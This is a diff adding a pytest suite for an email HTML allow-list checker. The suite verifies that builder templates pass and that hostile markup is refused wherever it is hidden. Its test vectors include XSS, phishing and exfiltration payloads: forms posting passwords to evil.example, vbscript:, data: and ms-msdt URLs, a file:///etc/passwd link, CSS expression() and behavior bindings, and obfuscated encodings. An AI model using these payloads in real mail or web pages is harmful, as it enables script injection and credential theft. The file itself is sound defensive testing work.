@@ -1,0 +1,219 @@
+"""What a mail may be made of: what builders make, and nothing that is not on the list."""
+
+import time
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from postledger.content.rendering import checks, html_allow_list
+from postledger.content.rendering.source import Format, Source, make_script
+
+BUILDERS = sorted((Path(__file__).parent / "builders").glob("*.html"))
+MJML = Path(__file__).parent / "builders" / "every-component.mjml"
+WHOLE = "<!DOCTYPE html>\n<html><body>\n{}\n</body></html>"
+
+
+def refused(html: str) -> list[tuple[str, str]]:
+    return [(finding.code, finding.place) for finding in checks.check_html(html)]
+
+
+def test_there_are_forty_documents_of_builders() -> None:
+    assert len(BUILDERS) == 40
+
+
+@pytest.mark.parametrize("path", BUILDERS, ids=lambda path: path.stem)
+def test_what_a_builder_makes_may_be_sent(path: Path) -> None:
+    assert checks.check_html(path.read_text()) == []
+
+
+@pytest.mark.parametrize("path", BUILDERS, ids=lambda path: path.stem)
+def test_what_a_builder_makes_may_be_sent_after_its_styles_are_inlined(path: Path) -> None:
+    script = make_script(Source("News", path.read_text(), Format.HTML))
+
+    assert checks.check_html(script.html) == []
+
+
+def test_what_mjml_makes_of_every_component_may_be_sent() -> None:
+    script = make_script(Source("News", MJML.read_text(), Format.MJML))
+
+    assert checks.check_html(script.html) == []
+    assert "mj-carousel" in script.html
+    assert "v:rect" in script.html
+
+
+# code, what stands on the third line
+VECTORS = [
+    *(
+        ("element_refused", html)
+        for html in (
+            '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
+            '<iframe src="https://evil.example/"></iframe>',
+            '<iframe srcdoc="&lt;p&gt;hello&lt;/p&gt;"></iframe>',
+            '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
+            '<embed src="data:text/html,x">',
+            '<embed src="https://evil.example/x.swf">',
+            '<applet code="x"></applet>',
+            '<frameset><frame src="https://evil.example"></frameset>',
+            '<form action="https://evil.example/steal"><input name="password"></form>',
+            '<input type="password" name="p">',
+            '<input type="image" src="https://evil.example/a.png">',
+            "<textarea name=a></textarea>",
+            "<select><option>a</select>",
+            '<button formaction="https://evil.example">Go</button>',
+            '<base href="https://evil.example/">',
+            '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+            '<meta http-equiv=" Refresh " content="0">',
+            '<META HTTP-EQUIV="Set-Cookie" content="a=b">',
+            '<link rel="import" href="https://evil.example/a.html">',
+            '<link rel="manifest" href="https://evil.example/a.json">',
+            "<svg><animate attributeName=href to=x /></svg>",
+            '<math><mi xlink:href="data:x">a</mi></math>',
+            "<template><p>hidden</p></template>",
+            "<marquee>old</marquee>",
+            "<layer src=x></layer>",
+            "<bgsound src=x>",
+            "<isindex action=x>",
+            "<x-custom>what is this</x-custom>",
+            "<prescription>not an element</prescription>",
+            "Write to <alice@example.com>",
+        )
+    ),
+    *(
+        ("url_refused", html)
+        for html in (
+            '<a href="vbscript:msgbox(1)">x</a>',
+            '<a href=" VBScript:msgbox(1)">x</a>',
+            '<a href="vb&#115;cript:msgbox(1)">x</a>',
+            '<a href="v\nbscript:x">x</a>',
+            '<a href="data:text/html,x">x</a>',
+            '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
+            '<a href="file:///etc/passwd">x</a>',
+            '<a href="ftp://evil.example/">x</a>',
+            '<a href="blob:https://evil.example/1">x</a>',
+            '<a href="livescript:x">x</a>',
+            '<a href="ms-msdt:/id PCWDiagnostic">x</a>',
+            '<a href="search-ms:query=x">x</a>',
+            '<img src="data:image/svg+xml,%3Csvg%3E">',
+            '<img src="data:text/html,x">',
+            '<img src="file://evil.example/share/a.png">',
+            '<img srcset="a.png 1x, data:text/html,x 2x">',
+            '<td background="vbscript:x">x</td>',
+            '<v:rect href="vbscript:x"></v:rect>',
+            '<v:fill src="file://evil.example/a"/>',
+            "<p style=\"background:url('vbscript:x')\">x</p>",
+            '<p style="background:url(data:text/html,x)">x</p>',
+            "<p style=\"background:url('&#118;bscript:x')\">x</p>",
+            '<p style="background:u\\72l(vb\\73 cript:x)">x</p>',
+            "<style>p{background:url( 'file://evil.example/a' )}</style>",
+            '<style>@import "ftp://evil.example/a.css";</style>',
+            "<style>@import url(data:text/css,p{});</style>",
+        )
+    ),
+    *(
+        ("attribute_refused", html)
+        for html in (
+            '<a href="https://a.example" ping="https://evil.example">x</a>',
+            '<a href="https://a.example" download>x</a>',
+            '<p contenteditable="true">x</p>',
+            "<p autofocus tabindex=0>x</p>",
+            '<html manifest="https://evil.example/a.appcache">',
+            '<img dynsrc="https://evil.example/a.avi">',
+            '<p is="x-evil">x</p>',
+            '<p foo="bar">x</p>',
+            '<a xlink:href="https://evil.example">x</a>',
+            '<table datasrc="#x" datafld="y"><tr><td>x</table>',
+        )
+    ),
+    *(
+        ("style_refused", html)
+        for html in (
+            '<p style="width:expression(alert(1))">x</p>',
+            '<p style="width:exp/**/ression(alert(1))">x</p>',
+            '<p style="width:e\\78pression(alert(1))">x</p>',
+            '<p style="behavior:url(https://evil.example/a.htc)">x</p>',
+            '<p style="-moz-binding:url(https://evil.example/a.xml#b)">x</p>',
+            "<style>p{width:expression (alert(1))}</style>",
+            "<style>p{behavior : url(a.htc)}</style>",
+            "<style>/* never closed */p{-moz-binding:none}",
+        )
+    ),
+]
+
+
+@pytest.mark.parametrize(("code", "html"), VECTORS)
+def test_what_is_not_on_the_list_is_refused_with_its_line_and_a_remedy(
+    code: str, html: str
+) -> None:
+    findings = checks.check_html(WHOLE.format(html))
+
+    assert (code, "html, line 3") in [(finding.code, finding.place) for finding in findings]
+    assert all(finding.remedy and not finding.is_warning for finding in findings)
+
+
+@pytest.mark.parametrize(("code", "html"), VECTORS)
+@pytest.mark.parametrize(
+    "hide",
+    [
+        lambda html: f"<!--[if mso]>{html}<![endif]-->",
+        lambda html: f"<!-- {html} -->",
+        lambda html: f"<title>{html}</title>",
+        lambda html: f"<style></style x>{html}",
+        lambda html: f"<noscript>{html}</noscript>",
+    ],
+    ids=["condition", "comment", "title", "style", "noscript"],
+)
+def test_nothing_hides_it(hide: Callable[[str], str], code: str, html: str) -> None:
+    assert code in [found for found, _ in refused(WHOLE.format(hide(html)))]
+
+
+def test_a_tag_that_was_fine_before_is_judged_no_more() -> None:
+    html = WHOLE.format('<td width="7" class="known">x</td>')
+    assert refused(html) == []
+
+    assert 'td width="7" class="known">' in html_allow_list._fine
+    assert not [text for text in html_allow_list._fine if "iframe" in text]
+
+
+def test_a_remembered_tag_makes_no_other_reading_fine() -> None:
+    """What is remembered ends at the first >: no program can read it in another way."""
+    assert refused('<p title="a">x</p>') == []
+
+    assert refused("<p title='<p title=\"a\"><iframe src=x>'>") != []
+    assert refused('<p title="a"><p title="<iframe src=x>">') != []
+
+
+UNITS = [
+    *(
+        "<",
+        "<a ",
+        "<a b=",
+        '<a title="',
+        "<style>",
+        "<style ",
+        "</style",
+        "<td width=1>",
+        "/*",
+        "*",
+    ),
+    *('<p style="', '<p style="url( ">', '<p style="\\\\">', "<style>\\65 ", "<style>url(", "<x>"),
+    *('<img srcset="a, ">', '<img srcset="' + "a," * 50 + '">', "<p title='<p>'>", "behavior: "),
+    *("<style>@import ", "<style>expression", '<a href="a:">', "<a href='&#118;'>", "<p a b c d>"),
+]
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("unit", UNITS)
+def test_twice_the_text_takes_less_than_three_times_the_time(unit: str) -> None:
+    def measure(size: int) -> float:
+        html = (unit * (size // len(unit) + 1))[:size]
+        html_allow_list._fine.clear()
+        started = time.process_time()
+        checks.check_html(html)
+        return time.process_time() - started
+
+    measure(1_000)
+    half, whole = measure(200_000), measure(400_000)
+
+    # Under some milliseconds the clock says nothing.
+    assert whole < 3 * half + 0.05
